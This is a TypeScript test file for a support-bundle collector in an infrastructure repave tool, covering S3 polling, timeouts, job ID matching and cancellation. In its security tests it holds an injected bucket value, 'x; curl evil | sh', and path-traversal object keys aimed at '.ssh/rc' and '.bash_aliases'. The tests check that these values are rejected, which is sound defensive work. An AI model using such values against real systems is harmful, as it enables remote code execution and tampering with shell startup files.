import { RepaveError } from "../../orchestration/domain/errors";
import { makeBundles, type BundleOptions, type Bundles } from "../../orchestration/operations/supportBundle";
import { World } from "../fakes/world";
import { attempt } from "../support/attempt";

/** As the fake application's answer names it. */
const JOB = "2026-11-22T02:00:00Z";
const keyOf = (job: string, ip: string): string => `support-bundles/${job}/${ip}/replicated-support1.tar.gz`;

/** A bucket in which bundles come when the test says. */
function bucket(world: World, keys: string[] = [], change: Partial<BundleOptions> = {}) {
  const told: string[] = [];
  const objects = {
    list: (_: string, prefix: string) =>
      Promise.resolve(keys.filter((key) => key.startsWith(prefix)).map((key) => ({ key, bytes: 7 }))),
    download: () => Promise.reject(new Error("not asked for")),
  };
  const make = (): Promise<Bundles> =>
    makeBundles({
      ports: world.ports(),
      objects,
      bucket: "tfe-data",
      signal: new AbortController().signal,
      note: (text) => void told.push(text),
      ...change,
    });
  return { keys, told, make };
}

it("waits for the bundle of every node under the one JobID", async () => {
  const world = new World();
  const { keys, make, told } = bucket(world, [keyOf("2026-01-01T00:00:00Z", "10.0.1.1")]);
  world.after(10_000, () => void keys.push(keyOf(JOB, "10.0.1.1")));
  world.after(60_000, () => void keys.push(keyOf(JOB, "10.0.1.2")));
  expect(await make()).toEqual({
    bucket: "tfe-data",
    jobId: JOB,
    bundles: [
      { instanceId: "i-1", privateIp: "10.0.1.1", key: keyOf(JOB, "10.0.1.1"), bytes: 7 },
      { instanceId: "i-2", privateIp: "10.0.1.2", key: keyOf(JOB, "10.0.1.2"), bytes: 7 },
    ],
  });
  expect(told).toContain(`${JOB}: 1 of 2 bundles are in the bucket`);
});

it("names the node whose bundle does not come, after a bounded time", async () => {
  const world = new World();
  const { keys, make } = bucket(world);
  world.after(5_000, () => void keys.push(keyOf(JOB, "10.0.1.1")));
  const begin = world.clock.now();
  await expect(make()).rejects.toMatchObject({
    code: "BUNDLE_INCOMPLETE",
    disposition: "fail",
    detail: `no bundle of i-2 (10.0.1.2) in s3://tfe-data/support-bundles/${JOB}/ after 15 minutes`,
  });
  expect(world.clock.now() - begin).toBe(15 * 60_000);
});

it("is not taken in by bundles that somebody else makes at the same time", async () => {
  const world = new World();
  const { keys, make } = bucket(world);
  world.after(5_000, () =>
    keys.push(keyOf("2026-11-22T02:00:03Z", "10.0.1.1"), keyOf("2026-11-22T02:00:03Z", "10.0.1.2")),
  );
  world.after(5_000, () => keys.push(keyOf(JOB, "10.0.1.1"), keyOf(JOB, "10.0.1.2")));
  expect((await make()).jobId).toBe(JOB);
});

it("takes the job that has come since where the answer names none", async () => {
  const world = new World();
  const ports = world.ports();
  const { tfe } = ports;
  const silent = new Proxy(tfe, {
    get(subject, name) {
      if (name === "supportBundle") return () => Promise.resolve("Done.");
      const value: unknown = Reflect.get(subject, name);
      return typeof value === "function" ? (value.bind(subject) as unknown) : value;
    },
  });
  const { keys, make } = bucket(world, [], { ports: { ...ports, tfe: silent } });
  world.after(5_000, () =>
    keys.push(keyOf("2026-11-22T02:00:09Z", "10.0.1.1"), keyOf("2026-11-22T02:00:09Z", "10.0.1.2")),
  );
  expect((await make()).jobId).toBe("2026-11-22T02:00:09Z");
});

describe("where the stack names no bucket", () => {
  it.each([
    [{}, /i-1 names none either\. Set tfe:bucket$/],
    [{ s3_bucket: "its-own" }, /i-1 says that it is its-own\. .*: pulumi config set tfe:bucket its-own$/],
    [{ s3_bucket: "x; curl evil | sh" }, /i-1 names none either\. Set tfe:bucket$/],
  ])("reads none, since a node must not choose it: %j", async (settings, said) => {
    const world = new World();
    world.tfe.settings.set("i-1", settings);
    const { make, told } = bucket(world, [], {
      bucket: undefined,
      objects: { list: () => fail("it was read"), download: () => fail("it was read") },
    });
    await expect(make()).rejects.toMatchObject({
      code: "STACK_CONFIG_INVALID",
      detail: expect.stringMatching(said) as string,
    });
    expect(told).toEqual([]);
  });
});

const fail = (why: string): Promise<never> => Promise.reject(new Error(why));

it("is made beside a run that has halted, by a node whose application runs", async () => {
  const world = new World();
  world.group.sicken("i-1");
  world.tfe.busy.add("i-2");
  const stop = new AbortController();
  world.once("drain.started", () => stop.abort(new RepaveError("INTERRUPTED", "stopped by a signal")));
  await attempt(world, {}, { signal: stop.signal, overrides: [{ id: "healthy", because: "test" }] });
  const { keys, make, told } = bucket(world);
  world.after(1_000, () => keys.push(keyOf(JOB, "10.0.1.1"), keyOf(JOB, "10.0.1.2")));
  expect((await make()).bundles).toHaveLength(2);
  expect(told[0]).toBe("creating support bundles of 2 nodes, through i-2");
});

it("stops waiting on Ctrl-C", async () => {
  const world = new World();
  const stop = new AbortController();
  const { make } = bucket(world, [], { signal: stop.signal });
  world.after(20_000, () => stop.abort(new RepaveError("INTERRUPTED", "stopped by a signal")));
  await expect(make()).rejects.toMatchObject({ code: "INTERRUPTED" });
});

it.each([
  `support-bundles/${JOB}/10.0.1.1/.:./.:./.:./.bash_aliases`,
  `support-bundles/${JOB}/10.0.1.1/../../../.ssh/rc`,
  `support-bundles/${JOB}/10.0.1.1/.replicated-support.tar.gz`,
  `support-bundles/${JOB}/10.0.1.1/a/replicated-support.tar.gz`,
  `support-bundles/../10.0.1.1/replicated-support.tar.gz`,
  `support-bundles/${JOB}/10.0.1.1/replicated-support1.tar.gz\n`,
])("takes no object for a bundle whose key the application cannot have made: %j", async (key) => {
  const world = new World();
  const { keys, make } = bucket(world);
  // A node may write whatever it likes beside its bundle, and its key comes first in the list.
  world.after(1_000, () => keys.push(key, keyOf(JOB, "10.0.1.1"), keyOf(JOB, "10.0.1.2")));
  const { bundles } = await make();
  expect(bundles.map((bundle) => bundle.key)).toEqual([keyOf(JOB, "10.0.1.1"), keyOf(JOB, "10.0.1.2")]);
});
